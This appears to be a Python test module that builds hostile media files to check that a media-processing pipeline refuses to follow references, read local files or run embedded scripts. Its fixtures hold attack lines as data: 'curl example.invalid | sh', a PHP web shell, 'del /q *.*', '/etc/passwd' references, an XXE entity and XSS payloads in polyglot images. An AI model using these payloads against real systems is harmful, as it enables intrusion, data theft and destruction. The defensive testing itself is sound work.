"""Files that are no media at all, files that are two things at once, and files that point at others."""

import io
import struct
import zipfile
from pathlib import Path

from tests.hostile_samples import Case, box, patched

PLAYLIST = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{}\n#EXT-X-ENDLIST\n"
MANIFEST = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S">'
    '<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{}</BaseURL>'
    "</Representation></AdaptationSet></Period></MPD>"
)


def scripts(good: dict[str, bytes], canary: Path, port: int) -> list[Case]:
    """`canary` is a good video that nothing but the test may open; `port` is one to which nothing may connect."""
    return [*_pointing(good, canary, port), *_other_things(good), *_two_things(good)]


def _pointing(good: dict[str, bytes], canary: Path, port: int) -> list[Case]:
    url, there = canary.as_uri(), f"http://127.0.0.1:{port}/a.ts"
    texts = {
        "playlist.mp4": PLAYLIST.format(url),
        "playlist-beside.mp4": PLAYLIST.format(canary.name),
        "playlist-far.mp4": PLAYLIST.format(there),
        "playlist-joined.mp4": PLAYLIST.format(f"concat:{canary}|{canary}"),
        "playlist-with-mark.mp3": "\ufeff" + PLAYLIST.format(url),
        "passwords.mov": PLAYLIST.format("file:///etc/passwd"),
        "concat.mp4": f"ffconcat version 1.0\nfile '{canary}'\n",
        "concat-beside.mkv": f"ffconcat version 1.0\nfile {canary.name}\nduration 5\n",
        "session.mp4": f"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nm=video {port} RTP/AVP 96\r\n",
        "drawing.png": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/></svg>',
        "manifest.mp4": MANIFEST.format(url),
        "manifest-far.mp4": MANIFEST.format(there),
        "entity.mp4": f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "{url}">]><a>&b;</a>',
        "list.mp3": f"[playlist]\nFile1={canary}\nNumberOfEntries=1\n",
        "redirector.mov": f"RTSPtextrtsp://127.0.0.1:{port}/a\r\n",
        "stream.webm": f'<ASX version="3.0"><Entry><Ref href="{there}"/></Entry></ASX>',
        "vapoursynth.mp4": f"import vapoursynth\nvapoursynth.core.ffms2.Source({str(canary)!r}).set_output()\n",
        "avisynth.avi": f'DirectShowSource("{canary}")\n',
    }
    named = dict.fromkeys(("frame%03d.png", "-i.png", "a|b.png", "[0:v]null.png", "@x.png", "pipe:0.png"), good["png"])
    return [
        *(Case(name, text.encode()) for name, text in texts.items()),
        *(Case(name, data, "read") for name, data in named.items()),
        Case("concat:canary.mp4.mp4", good["mp4"], "read"),
        Case(
            "elsewhere.mov", _elsewhere(good["mov"], box(b"url ", bytes(4), canary.as_uri().encode() + b"\0")), "either"
        ),
        Case("elsewhere-by-alias.mov", _elsewhere(good["mov"], _alias(canary)), "either"),
        Case("elsewhere-beside.mov", _elsewhere(good["mov"], _alias(Path(canary.name))), "either"),
        Case("elsewhere-far.mov", _elsewhere(good["mov"], box(b"url ", bytes(4), there.encode() + b"\0")), "either"),
        Case("reference.mov", _reference(url)),
    ]


def _elsewhere(good: bytes, reference: bytes) -> bytes:
    """The film with its data said to lie in another file. The offsets lose their place, as the index stands last."""
    old = box(b"url ", b"\0\0\0\1")
    if old not in good:
        old = box(b"alis", b"\0\0\0\1")
    assert old in good
    grow = len(reference) - len(old)
    worse = good.replace(old, reference)
    for kind in (b"dref", b"dinf", b"minf", b"mdia", b"trak", b"moov"):
        times = good.count(old) if kind == b"moov" else 1
        at = worse.find(kind)
        while at >= 0:
            size = int.from_bytes(worse[at - 4 : at], "big") + grow * times
            worse = worse[: at - 4] + struct.pack(">I", size) + worse[at:]
            at = worse.find(kind, at + 4)
    return worse


def _reference(url: str) -> bytes:
    """A film that is nothing but the address of another."""
    address = box(b"rdrf", bytes(4), b"url ", struct.pack(">I", len(url) + 1), url.encode(), b"\0")
    return box(b"moov", box(b"rmra", box(b"rmda", address)))


def _alias(target: Path) -> bytes:
    """A classic Mac alias with the path of the target in it."""
    path, name = str(target).encode(), target.name.encode()
    fixed = bytes(10) + b"\x04disk".ljust(28, b"\0") + bytes(12) + bytes([len(name)]) + name.ljust(63, b"\0")
    fixed += bytes(16) + struct.pack(">hh", 1, 1) + bytes(16)
    entries = b"".join(struct.pack(">hH", kind, len(path)) + path + bytes(len(path) % 2) for kind in (2, 18))
    return box(b"alis", bytes(4), fixed, entries, struct.pack(">hH", -1, 0))


def _other_things(good: dict[str, bytes]) -> list[Case]:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("film.mp4", good["mp4"])
    texts = {
        "shell.mp4": "#!/bin/sh\ncurl example.invalid | sh\n",
        "page.mp4": "<!DOCTYPE html><html><script>alert(1)</script></html>",
        "python.mov": "import os\nos.system('id')\n",
        "php.jpg": "<?php system($_GET['c']); ?>",
        "batch.avi": "@echo off\r\ndel /q *.*\r\n",
        "words.mp3": "free as in freedom " * 400,
        "document.png": "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch>>>>endobj\n%%EOF",
        "free-text.mp4": "    free\n" * 200,
    }
    data = {
        "empty.mp4": b"",
        "one-byte.mp4": b"\0",
        "archive.mp4": packed.getvalue(),
        "program.mp4": b"\x7fELF\2\1\1" + bytes(4000),
        "windows-program.avi": b"MZ\x90\0" + bytes(4000),
        "vorbis.mp3": b"OggS\0\2" + bytes(8) + b"\1\2\3\4" + bytes(4000),
        "flac.wav": b"fLaC\0\0\0\x22" + bytes(4000),
        "heif.jpg": box(b"ftyp", b"heic\0\0\0\0mif1heic") + bytes(4000),
        "transport.mp4": (b"G\x40\0\x10" + bytes(184)) * 50,
        "flash.mp4": b"FLV\1\5\0\0\0\x09" + bytes(4000),
        "database.mp4": b"SQLite format 3\0" + bytes(4000),
    }
    return [
        *(Case(name, text.encode()) for name, text in texts.items()),
        *(Case(name, content) for name, content in data.items()),
        Case("video-inside.png", good["mp4"], "read"),
        Case("picture-inside.mp4", good["png"], "read"),
        Case("sound-inside.mkv", good["wav"], "read"),
    ]


def _two_things(good: dict[str, bytes]) -> list[Case]:
    gif = patched(good["gif"], b"GIF89a", 0, b"/*")
    return [
        Case("script.gif", gif + b"*/=1;alert(1)//", "either"),
        Case("script-behind.gif", good["gif"] + b"<script>alert(1)</script>", "read"),
        Case("page-behind.jpg", good["jpg"] + b"<html><script>alert(1)</script>", "read"),
        Case("archive-behind.png", good["png"] + b"PK\5\6" + bytes(18), "read"),
        Case("playlist-in-a-box.mp4", box(b"ftyp", b"isom\0\0\2\0") + PLAYLIST.format("file:///etc/passwd").encode()),
        Case("playlist-behind.mp4", good["mp4"] + b"\n" + PLAYLIST.format("file:///etc/passwd").encode(), "read"),
    ]
